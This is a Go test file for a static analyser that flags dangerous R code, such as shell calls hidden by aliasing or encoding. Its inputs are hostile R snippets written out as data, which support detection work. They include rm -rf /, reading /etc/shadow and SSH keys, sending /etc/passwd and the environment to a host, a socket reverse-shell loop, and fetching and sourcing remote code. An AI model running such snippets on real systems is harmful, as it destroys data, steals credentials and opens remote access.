package rscript

import (
	"testing"

	"github.com/e2bguard/e2bguard/guard/static/flow/flowtest"
)

func TestEffects(t *testing.T) { flowtest.Run(t, Parse, effectCases) }

func TestReviewsDoNotDisturbEachOther(t *testing.T) { flowtest.Together(t, Parse, effectCases) }

func TestOrdinaryCodeIsQuiet(t *testing.T) { flowtest.Run(t, Parse, quietCases) }

var effectCases = []flowtest.Case{
	{Name: "system", Code: "system('id')", Want: []string{"bash: id"}},
	{Name: "base::system", Code: "base::system(\"id\", intern = TRUE)", Want: []string{"bash: id"}},
	{Name: "system2", Code: "system2('rm', c('-rf', '/'))", Want: []string{"exec rm -rf /"}},
	{Name: "pipe", Code: "readLines(pipe('id'))", Want: []string{"bash: id"}},
	{Name: "alias", Code: "f <- system\nf('id')", Want: []string{"bash: id"}},
	{Name: "assigned to the right", Code: "'id' -> x\nsystem(x)", Want: []string{"bash: id"}},
	{Name: "get", Code: "get(paste0('sys', 'tem'))('id')", Want: []string{"bash: id +hidden"}},
	{Name: "do.call", Code: "do.call('system', list('id'))", Want: []string{"bash: id"}},
	{Name: "match.fun", Code: "match.fun('system')('id')", Want: []string{"bash: id"}},
	{Name: "pipe operator", Code: "'id' |> system()", Want: []string{"bash: id"}},
	{Name: "magrittr", Code: "'id' %>% system", Want: []string{"bash: id"}},
	{Name: "function", Code: "run <- function(x, y = 'b') {\n  system(paste(x, y))\n}\nrun('a')", Want: []string{"bash: a b"}},
	{Name: "lambda", Code: "(\\(x) system(x))('id')", Want: []string{"bash: id"}},
	{Name: "function's value", Code: "f <- function() { 'id' }\nsystem(f())", Want: []string{"bash: id"}},
	{Name: "sapply", Code: "sapply(c('a', 'b'), function(x) unlink(x, recursive = TRUE))", Want: []string{"delete a +recursive +loop", "delete b +recursive +loop"}},
	{Name: "for", Code: "for (d in c('/a', '/b')) unlink(d, recursive = TRUE)", Want: []string{"delete /a +recursive +loop", "delete /b +recursive +loop"}},
	{Name: "eval parse", Code: "eval(parse(text = 'x()'))", Want: []string{"r: x()"}},
	{Name: "paste", Code: "system(paste('rm', '-rf', sep = ' '))", Want: []string{"bash: rm -rf"}},
	{Name: "collapse", Code: "system(paste(c('i', 'd'), collapse = ''))", Want: []string{"bash: id"}},
	{Name: "sprintf", Code: "system(sprintf('%s -a', 'id'))", Want: []string{"bash: id -a"}},
	{Name: "character codes", Code: "system(intToUtf8(c(105, 100)))", Want: []string{"bash: id <decoded>"}},
	{Name: "raw", Code: "system(rawToChar(as.raw(c(0x69, 0x64))))", Want: []string{"bash: id <decoded>"}},
	{Name: "reversed", Code: "system(paste(rev(strsplit('di', '')[[1]]), collapse = ''))", Want: []string{"bash: id <decoded>"}},
	{Name: "base64", Code: "system(rawToChar(base64enc::base64decode('aWQ=')))", Want: []string{"bash: id <decoded>"}},
	{Name: "chartr", Code: "system(chartr('xy', 'id', 'xy'))", Want: []string{"bash: id <decoded>"}},
	{Name: "raw string", Code: "system(r\"(echo \"x\")\")", Want: []string{"bash: echo \"x\""}},
	{Name: "read", Code: "readLines('/etc/shadow')", Want: []string{"read /etc/shadow"}},
	{Name: "home", Code: "readLines(file.path(Sys.getenv('HOME'), '.ssh', 'id_rsa'))", Want: []string{"read ~/.ssh/id_rsa"}},
	{Name: "write", Code: "writeLines('x', '~/.bashrc')", Want: []string{"write ~/.bashrc | x"}},
	{Name: "append", Code: "cat('x', file = '~/.bashrc', append = TRUE)", Want: []string{"write ~/.bashrc | x +append"}},
	{Name: "remove", Code: "file.remove('/etc/passwd')", Want: []string{"delete /etc/passwd"}},
	{Name: "all files removed", Code: "file.remove(list.files('/home', full.names = TRUE))", Want: []string{"delete /home/*"}},
	{Name: "chmod", Code: "Sys.chmod('/bin/sh', '4755')", Want: []string{"mode /bin/sh | 4755"}},
	{Name: "download", Code: "download.file('http://h/x', '/tmp/x')", Want: []string{"receive http://h/x", "write /tmp/x | _ <download: http://h/x>"}},
	{Name: "source of a URL", Code: "source('http://h/x.R')", Want: []string{"r: _ <download: http://h/x.R>"}},
	{Name: "file sent", Code: "httr::POST('http://h', body = readLines('/etc/passwd'))", Want: []string{"send http://h | _ <file: /etc/passwd>"}},
	{Name: "environment sent", Code: "x <- Sys.getenv()\nhttr::POST('http://h', body = list(x))", Want: []string{"env", "send http://h | _ <environment>"}},
	{Name: "httr2", Code: "httr2::request('http://h') |> req_body_raw(readLines('k')) |> req_perform()", Want: []string{"send http://h | _ <file: k>", "receive http://h"}},
	{Name: "socket", Code: "s <- socketConnection(host = 'h', port = 4444)\nrepeat { system(readLines(s, 1)) }",
		Want: []string{"connect h :4444", "bash: _ <network, socket> +loop +unbounded"}},
	{Name: "kill", Code: "tools::pskill(1)", Want: []string{"kill 1"}},
	{Name: "memory", Code: "x <- rep(0, 1e10)", Want: []string{"alloc memory | 10000000000"}},
	{Name: "endless", Code: "while (TRUE) {}", Want: []string{"loop +unbounded"}},
	{Name: "Python inside", Code: "reticulate::py_run_string(\"import os\")", Want: []string{"python: import os"}},
	{Name: "broken before", Code: "x <- (1 + \n) }\nsystem('id')", Want: []string{"bash: id"}},
}

var quietCases = []flowtest.Case{
	{Name: "statistics", Quiet: true, Code: "x <- c(1, 2, 3)\nm <- mean(x)\nfit <- lm(y ~ x, data = df)\nprint(summary(fit))\nplot(x, y, main = 'rm -rf /')"},
	{Name: "data frames", Quiet: true, Code: "df %>% filter(a > 1) %>% group_by(b) %>% summarise(n = n())"},
	{Name: "own function", Quiet: true, Code: "system <- function(x) x\nsystem('id')"},
	{Name: "comment", Quiet: true, Code: "# system('id')\nx <- \"system('id')\""},
}
